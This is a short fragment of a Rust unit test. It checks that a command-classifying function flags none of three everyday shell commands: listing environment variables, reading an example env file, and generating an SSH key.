            "env | sort\n",
            "cat .env.example\n",
            "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519\n",
        ] {
            assert!(kinds(text).is_empty(), "{text}: {:?}", kinds(text));
        }
    }
}
